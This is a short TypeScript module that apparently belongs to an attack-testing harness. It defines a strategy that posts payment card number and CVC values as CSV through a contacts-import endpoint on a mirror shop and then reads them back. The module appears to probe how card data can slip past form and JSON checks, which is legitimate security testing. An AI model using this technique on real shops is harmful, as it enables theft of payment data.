import type { Strategy } from '#scripts/attack/strategy';

/** An address book by commas: no form and no JSON, so nothing but text. */
export const csvImport: Strategy = {
  name: 'import of an address book',
  channel: 'this tab',
  shops: ['mirror'],
  async run({ page }) {
    await page(
      "return said(await post('/contacts/import', 'card_number,' + number + '\\ncvc,' + code, { 'content-type': 'text/csv' }))",
    );
    await page("return said(await fetch('/contacts/import', { headers: json }))");
  },
};
